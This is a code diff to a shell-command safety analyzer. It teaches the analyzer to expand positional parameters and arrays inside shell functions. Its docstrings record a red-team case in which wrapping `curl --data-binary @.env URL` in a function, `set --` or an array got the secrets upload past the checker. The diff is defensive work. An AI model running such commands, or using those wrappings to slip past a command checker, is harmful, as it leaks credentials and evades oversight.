@@ -13,7 +13,7 @@ from __future__ import annotations
 
 import re
 import shlex
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, Any
 
 if TYPE_CHECKING:
     from macrohard.safety.commands import Analyzer
@@ -51,12 +51,84 @@ def add_hook(an: Analyzer, code: str) -> None:
         an.r.add("dynamic", f"more than {MAX_HOOKS} traps and handlers set in this session, too many to review")
 
 
-def called(an: Analyzer, name: str, cwd: str | None, depth: int, inlined: bool = False) -> None:
+# a positional parameter standing as a word of its own: `"$@"`, `$*`, `"$1"`, `${2}`, `"${@:2}"`, `${*:1:2}`
+_SLICE = r"\{(?P<N>[@*])(?::(?P<Ns>\d+)(?::(?P<Nn>\d+))?)?\}|\{?(?P<N1>[@*1-9])\}?"
+_POSITIONAL = re.compile(r'"\$(?:' + _SLICE.replace("N", "q") + r')"|(?<!["\w\\$])\$(?:' + _SLICE.replace("N", "u")
+                         + r')(?![\w"])')
+_SET_ARGS = re.compile(r"(?:^|[;&|\n({]\s*)set\s+--\s+([^;&|\n)}]*)")
+
+
+def with_arguments(code: str, args: list[str]) -> str | None:
+    """``code`` with its positional parameters as ``args`` (rt50: `f() { curl "$@"; }; f --data-binary @.env URL` and
+    `set -- … ; curl "$@"` were judged as curl with nothing known to send); None when it names none, or an argument
+    is only known when it runs. ``"$*"`` and ``x="$@"`` are one word; ``"$@"`` and a bare ``$*`` are the words."""
+    if not args or any(c in a for a in args for c in "$`"):
+        return None
+
+    def value(m: re.Match[str]) -> str:
+        g = m.groupdict()
+        quoted = g["q"] or g["q1"]
+        key = quoted or g["u"] or g["u1"]
+        if key not in "@*":
+            return shlex.quote(args[int(key) - 1]) if int(key) <= len(args) else "''"
+        start, count = g["qs"] or g["us"], g["qn"] or g["un"]
+        words = args[max(int(start or 1) - 1, 0):]
+        words = words[:int(count)] if count else words
+        one_word = quoted and key == "*" or code[:m.start()].endswith("=")
+        return shlex.quote(" ".join(words)) if one_word else shlex.join(words)
+
+    out = _POSITIONAL.sub(value, code)
+    return None if out == code else out
+
+
+_ARRAY_SET = re.compile(r"(?:^|[;&|\n({]\s*)(?:(?:local|declare|typeset)\s+(?:-a\s+)?)?([A-Za-z_]\w*)=\(([^()$`]*)\)")
+
+
+def array_arguments(command: str) -> str | None:
+    """The rest of a line after ``a=(WORDS)``, with ``"${a[@]}"`` and ``${a[*]}`` as the words (rt50: `a=(-s
+    --data-binary @.env URL); curl "${a[@]}"` was judged as curl with nothing known to send)."""
+    if (m := _ARRAY_SET.search(command)) is None:
+        return None
+    try:
+        words = shlex.split(m.group(2))
+    except ValueError:
+        return None
+    name = re.escape(m.group(1))
+    rest = command[m.end():]
+    out = re.sub(r'"\$\{' + name + r'\[[@*]\]\}"|\$\{' + name + r'\[[@*]\]\}', lambda _: shlex.join(words), rest)
+    return None if out == rest else out.lstrip(" \t\n;&|")
+
+
+def shell_arguments(prog: str, rest: list[str], inv: Any) -> list[str]:
+    """The ``$1``… of what ``bash -c CODE NAME ARGS``, ``bash SCRIPT ARGS`` or ``source FILE ARGS`` runs."""
+    if prog in ("source", "."):
+        return rest[1:]
+    if inv.codes and inv.codes[0] in rest:
+        return rest[rest.index(inv.codes[0]) + 2:]
+    if inv.script and inv.script in rest:
+        return rest[rest.index(inv.script) + 1:]
+    return []
+
+
+def set_arguments(command: str) -> str | None:
+    """The rest of a line after `set -- ARGS`, with its positional parameters as ARGS."""
+    if (m := _SET_ARGS.search(command)) is None:
+        return None
+    try:
+        args = shlex.split(m.group(1))
+    except ValueError:
+        return None
+    return with_arguments(command[m.end():].lstrip(" \t\n;&|"), args)
+
+
+def called(an: Analyzer, name: str, cwd: str | None, depth: int, inlined: bool = False, args: list[str] = ()) -> None:
     """``f`` where the session defined ``f()``: its body runs here, with the files as they are now (``inlined``: the
-    line's walk visited the body in the call's place, ``safety.loopcall``)."""
+    line's walk visited the body in the call's place, ``safety.loopcall``), and with ``args`` as its ``$1``…"""
     if name not in an.functions or name in an.expanding:
         return
     an.expanding.add(name)
+    if (reading := with_arguments(an.functions[name], list(args))) is not None:
+        an.line(reading, depth + 1, cwd)
     # what the body does to PATH stands after the call, as in bash (its assignments are judged here, not where it
     # was defined: `f() { . ./env.sh; }`, env.sh rewritten to put ./bin first, `f`, then `ls`); a restore of a copy
     # of PATH (a virtualenv's `deactivate`) adds nothing (safety.lookup)
